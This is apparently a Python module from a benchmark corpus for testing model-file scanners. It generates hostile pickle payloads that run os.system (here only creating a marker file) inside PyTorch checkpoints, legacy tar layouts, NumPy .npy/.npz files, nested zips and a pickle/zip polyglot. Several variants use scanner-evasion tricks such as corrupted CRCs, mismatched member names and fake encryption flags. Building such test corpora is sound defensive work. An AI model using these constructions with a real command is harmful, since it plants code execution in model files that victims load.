"""Malicious containers: payloads inside PyTorch zips and legacy files, NumPy files, archives."""

from __future__ import annotations

import io
import struct
import zipfile
from pathlib import Path

from benchmarks.corpus import technique
from benchmarks.corpus.pickleasm import shell_call

DANGEROUS = "PICKLE-DANGEROUS-GLOBAL"


def payload(m: Path, *, protocol: int = 2) -> bytes:
    """The standard hostile pickle: os.system("touch marker")."""
    return shell_call("os", "system", m, protocol=protocol)


def torch_zip(
    data_pkl: bytes,
    *,
    folder: str = "archive",
    pkl_name: str = "data.pkl",
    compression: int = zipfile.ZIP_STORED,
    extra: dict[str, bytes] | None = None,
) -> bytes:
    """A PyTorch-style zip archive with `data_pkl` as its pickle."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=compression) as archive:
        archive.writestr(f"{folder}/{pkl_name}", data_pkl)
        archive.writestr(f"{folder}/byteorder", "little")
        archive.writestr(f"{folder}/data/0", b"\x00" * 64)
        for name, data in (extra or {}).items():
            archive.writestr(f"{folder}/{name}", data)
        archive.writestr(f"{folder}/version", "3\n")
    return buffer.getvalue()


@technique("torch-zip-data-pkl", family="torch", filename="pytorch_model.bin")
def zip_data_pkl(m: Path) -> bytes:
    """The classic malicious PyTorch checkpoint: os.system in data.pkl."""
    return torch_zip(payload(m))


@technique("torch-zip-odd-folder", family="torch", filename="model.pt")
def zip_odd_folder(m: Path) -> bytes:
    """The archive folder is not `archive` and sits two levels deep."""
    return torch_zip(payload(m), folder="a/very/odd name")


@technique("torch-zip-extra-pickle-member", family="torch", filename="model.pt")
def zip_extra_member(m: Path) -> bytes:
    """data.pkl is clean; another member, not named .pkl, holds the payload."""
    import pickle

    return torch_zip(pickle.dumps({"a": 1}, protocol=2), extra={"extra/state": payload(m)})


@technique("torch-zip-deflated", family="torch", filename="model.pt")
def zip_deflated(m: Path) -> bytes:
    """data.pkl compressed with deflate."""
    return torch_zip(payload(m), compression=zipfile.ZIP_DEFLATED)


def _patch_crc(data: bytes, name: bytes) -> bytes:
    """Corrupt the CRC of member `name` in both local and central headers."""
    out = bytearray(data)
    for sig, crc_at, name_at in ((b"PK\x03\x04", 14, 30), (b"PK\x01\x02", 16, 46)):
        pos = out.find(sig)
        while pos >= 0:
            nlen = struct.unpack_from("<H", out, pos + (26 if sig == b"PK\x03\x04" else 28))[0]
            if bytes(out[pos + name_at : pos + name_at + nlen]) == name:
                struct.pack_into("<I", out, pos + crc_at, 0xDEADBEEF)
            pos = out.find(sig, pos + 4)
    return bytes(out)


@technique(
    "torch-zip-bad-crc",
    family="torch",
    filename="model.pt",
    advisory="CVE-2025-10156",
    expect=(DANGEROUS,),
)
def zip_bad_crc(m: Path) -> bytes:
    """The pickle member's CRC is wrong: scanners that trust zipfile stop; torch still loads."""
    return _patch_crc(torch_zip(payload(m)), b"archive/data.pkl")


@technique("torch-zip-duplicate-names", family="torch", filename="model.pt")
def zip_duplicate(m: Path) -> bytes:
    """Two members named data.pkl: a clean one first, the payload second."""
    import pickle
    import warnings

    buffer = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        with zipfile.ZipFile(buffer, "w") as archive:
            archive.writestr("archive/data.pkl", pickle.dumps({}, protocol=2))
            archive.writestr("archive/data.pkl", payload(m))
            archive.writestr("archive/version", "3\n")
    return buffer.getvalue()


@technique(
    "torch-zip-local-name-mismatch",
    family="torch",
    filename="model.pt",
    advisory="CVE-2025-1944",
)
def zip_name_mismatch(m: Path) -> bytes:
    """The local header names the member differently from the central directory."""
    data = bytearray(torch_zip(payload(m)))
    pos = data.find(b"archive/data.pkl")  # first occurrence: the local header
    data[pos : pos + 16] = b"archive/data.pkX"
    return bytes(data)


@technique("torch-zip-flag-bits", family="torch", filename="model.pt", advisory="CVE-2025-1945")
def zip_flag_bits(m: Path) -> bytes:
    """General-purpose flag bits set (encrypted) in the directory; torch ignores them."""
    data = bytearray(torch_zip(payload(m)))
    pos = data.find(b"PK\x01\x02")
    while pos >= 0:
        struct.pack_into("<H", data, pos + 8, 0x0001)
        pos = data.find(b"PK\x01\x02", pos + 4)
    return bytes(data)


@technique("zip-in-zip", family="archive", filename="bundle.zip")
def zip_in_zip(m: Path) -> bytes:
    """A PyTorch checkpoint stored inside a plain zip."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("models/inner.pt", torch_zip(payload(m)))
    return buffer.getvalue()


@technique("torch-legacy-payload-in-object", family="torch", filename="model.pt")
def legacy_payload(m: Path) -> bytes:
    """Legacy torch.save layout (magic, protocol, sys info) with the payload as the object."""
    import pickle

    parts = [
        pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2),
        pickle.dumps(1001, protocol=2),
        pickle.dumps({"protocol_version": 1001, "little_endian": True}, protocol=2),
        payload(m),
        pickle.dumps([], protocol=2),
    ]
    return b"".join(parts)


@technique("torch-legacy-tar", family="torch", filename="model.tar")
def legacy_tar(m: Path) -> bytes:
    """The oldest torch.save layout: a tar with a `pickle` member holding the payload."""
    import pickle
    import tarfile

    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.USTAR_FORMAT) as tar:
        for name, data in (
            ("sys_info", pickle.dumps({}, protocol=2)),
            ("pickle", payload(m)),
            ("storages", pickle.dumps(0, protocol=2)),
        ):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def _npy_object(pickled: bytes) -> bytes:
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    raw = header.encode() + b" " * (-(len(header) + 11) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(raw)) + raw + pickled


@technique("numpy-npy-object-payload", family="numpy", filename="array.npy")
def npy_object(m: Path) -> bytes:
    """An object-dtype .npy whose data pickle runs os.system (numpy.load allow_pickle)."""
    return _npy_object(payload(m))


@technique("numpy-npz-object-member", family="numpy", filename="arrays.npz")
def npz_object(m: Path) -> bytes:
    """An .npz with one clean array and one hostile object array."""
    import numpy as np

    clean = io.BytesIO()
    np.save(clean, np.ones(3))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("a.npy", clean.getvalue())
        archive.writestr("b.npy", _npy_object(payload(m)))
    return buffer.getvalue()


@technique("numpy-npz-compressed-object", family="numpy", filename="arrays.npz")
def npz_compressed_object(m: Path) -> bytes:
    """savez_compressed-style: the hostile object array is deflated."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("b.npy", _npy_object(payload(m, protocol=4)))
    return buffer.getvalue()


@technique("polyglot-pickle-then-zip", family="torch", filename="model.pt")
def polyglot(m: Path) -> bytes:
    """A pickle at offset 0 that is also a valid zip at the end: torch.load runs the pickle."""
    import pickle

    return payload(m) + torch_zip(pickle.dumps({}, protocol=2))
